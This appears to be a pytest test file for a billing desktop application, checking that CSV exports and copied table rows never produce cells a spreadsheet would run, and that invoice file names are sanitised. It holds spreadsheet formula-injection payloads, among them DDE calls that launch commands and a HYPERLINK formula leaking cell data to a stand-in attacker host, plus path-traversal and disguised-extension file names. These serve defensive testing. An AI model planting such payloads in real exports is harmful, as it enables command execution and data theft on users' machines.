"""What leaves as a table runs nowhere: no cell is a formula, and what comes back is what was there.

The columns come from the metadata: a new one is covered the day it is added.
"""

from __future__ import annotations

import csv
import io
import re
from contextlib import closing
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from PySide6.QtWidgets import QApplication
from pytestqt.qtbot import QtBot

from billops_desktop.bootstrap import open_workspace
from billops_desktop.errors import BillOpsError
from billops_desktop.services.invoices import invoice_rows, rendering
from billops_desktop.services.transfer import exchange
from billops_desktop.services.workspace import Workspace
from billops_desktop.storage.connection import connect
from tests.support import factories, hostile, money
from tests.support.clock import MovableClock
from tests.support.profiles import copy_profile

STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠", "'=", "''=", "\t=", "\n@")
BODIES = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://evil.example?"&A1,"x")',
    "SUM(1+9)*cmd|' /C calc'!A0",
    '1","=2;=3\t=4',
)
PAYLOADS = tuple(f"{start}{body}" for start in STARTS for body in BODIES)[:60]
RUNS = re.compile(r"[=+\-@\t\r\n＝＋－＠]")
NUMBER = re.compile(r"-?\d+(\.\d+)?$")


def test_the_payloads_are_sixty_and_would_run() -> None:
    assert len(set(PAYLOADS)) == 60
    assert sum(bool(RUNS.match(payload)) for payload in PAYLOADS) > 50


@pytest.fixture(scope="module")
def rows(haldane_template: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Return a closed profile with one entry per payload, some on an issued invoice."""
    profile = copy_profile(haldane_template, tmp_path_factory.mktemp("exports") / "profile")
    opened = open_workspace(profile, clock=MovableClock())
    job = money.make_job(opened)
    start = factories.utc("2026-11-01 00:00")
    for number in range(len(PAYLOADS)):
        at = (start + timedelta(hours=2 * number)).strftime("%Y-%m-%d %H:%M")
        money.log(opened, job, at, description=f"Work {number}")
    money.issued_item(opened, job)
    opened.close()
    return profile


def exported(profile: Path) -> list[dict[str, str]]:
    """Return the cells of the CSV export."""
    opened = open_workspace(profile, clock=MovableClock())
    text = io.StringIO()
    exchange.export_entries(opened, text)
    opened.close()
    return list(csv.DictReader(io.StringIO(text.getvalue(), newline="")))


def running_cells(cells: list[dict[str, str]]) -> list[str]:
    return [
        f"{name}: {cell!r}"
        for row in cells
        for name, cell in row.items()
        if RUNS.match(cell) and not NUMBER.match(cell)
    ]


def test_no_cell_of_an_export_runs_whichever_column_is_hostile(rows: Path, tmp_path: Path) -> None:
    profile = copy_profile(rows, tmp_path / "profile")
    hostile.write(profile, lambda _t, _c, row: f"{PAYLOADS[row % len(PAYLOADS)]} {row}")
    cells = exported(profile)
    assert running_cells(cells) == []
    assert [row["description"].lstrip("'") for row in cells] == [
        f"{payload} {number}".lstrip("'") for number, payload in enumerate(PAYLOADS)
    ]


@pytest.mark.parametrize("column", ["zone", "source", "currency", "external_source"])
def test_codes_that_another_program_wrote_do_not_run_either(
    rows: Path, tmp_path: Path, column: str
) -> None:
    profile = copy_profile(rows, tmp_path / "profile")
    table = "project" if column == "currency" else "time_entry"
    with closing(connect(profile / "billops.db")) as foreign:
        foreign.execute("PRAGMA ignore_check_constraints=ON")
        foreign.execute(f"UPDATE {table} SET {column} = ?", (PAYLOADS[1],))
    try:
        cells = exported(profile)
    except (BillOpsError, ValueError):
        return  # refused
    assert running_cells(cells) == []


def test_what_is_imported_again_is_what_was_there(
    rows: Path, haldane_template: Path, tmp_path: Path
) -> None:
    profile = copy_profile(rows, tmp_path / "profile")
    texts = [one for one in PAYLOADS if "\r" not in one]
    names = {
        (table, column): column in {"name", "description"} and table != "workspace"
        for table, column in hostile.text_columns()
    }
    hostile.write(
        profile,
        lambda table, column, row: (
            f"{texts[row % len(texts)]} {row}" if names[table, column] else f"{row}"
        ),
    )
    file = tmp_path / "entries.csv"
    first = open_workspace(profile, clock=MovableClock())
    exchange.export_entries(first, file)
    second = open_workspace(copy_profile(haldane_template, tmp_path / "new"), clock=MovableClock())
    report = exchange.import_entries(second, file)
    assert report.added == len(PAYLOADS)
    assert facts(second) == facts(first)
    first.close()
    second.close()


def facts(opened: Workspace) -> list[tuple[Any, ...]]:
    """Return what an export carries: times, words, and the names of what they belong to."""
    query = (
        "SELECT e.started_at, e.description, p.name, c.name, t.name FROM time_entry AS e"
        " LEFT JOIN project AS p ON p.id = e.project_id LEFT JOIN client AS c ON c.id = p.client_id"
        " LEFT JOIN task AS t ON t.id = e.task_id ORDER BY e.started_at"
    )

    def read(work: Any) -> list[tuple[Any, ...]]:
        found = work.session.connection().exec_driver_sql(query)
        return [tuple(clean(value) for value in row) for row in found]

    return opened.read(read)


def clean(value: Any) -> Any:
    """Names are kept without white space around them."""
    return value.strip() if isinstance(value, str) else value


def test_rows_copied_from_a_table_do_not_run(qtbot: QtBot, dressed: QApplication) -> None:
    from billops_desktop.ui.table import Table
    from billops_desktop.ui.widgets.cells import Column

    columns = [
        Column(name="words", title="Words", value=lambda row: row[0]),
        Column(name="amount", title="Amount", value=lambda row: row[1]),
    ]
    table = Table(columns, "payloads")
    qtbot.addWidget(table)
    table.set_rows([(payload, -5) for payload in PAYLOADS])
    table.selectAll()
    lines = table.copy().rstrip("\n").split("\n")
    assert len(lines) == len(PAYLOADS) + 1
    assert {line.split("\t")[-1] for line in lines[1:]} == {"-5"}
    cells = [cell for line in lines for cell in line.split("\t")]
    assert [cell for cell in cells if RUNS.match(cell) and not NUMBER.match(cell)] == []


@pytest.mark.parametrize(
    "name",
    ["../../x", "CON", "nul.txt", "a\\b:c|d", "\u202egnp.exe", "🙂" * 300, ".", "-rf", "x" * 400],
)
def test_a_file_is_named_harmlessly_whatever_the_client_is_called(
    rows: Path, tmp_path: Path, name: str
) -> None:
    profile = copy_profile(rows, tmp_path / "profile")
    hostile.write(profile, lambda _t, column, row: f"{'' if column != 'number' else row}{name}")
    opened = open_workspace(profile, clock=MovableClock())
    invoice = opened.read(invoice_rows.invoices, limit=1, offset=0).rows[0]
    made = opened.read(rendering.file_name, invoice.id)
    opened.close()
    assert re.fullmatch(r"[\w .()+,&'-]+\.pdf", made), made
    assert len(made.encode()) <= 120
    assert not made.startswith((".", "-", " "))
    assert made.split(".")[0].upper().strip() not in {"CON", "NUL", "PRN", "AUX"}
    assert "\u202e" not in made
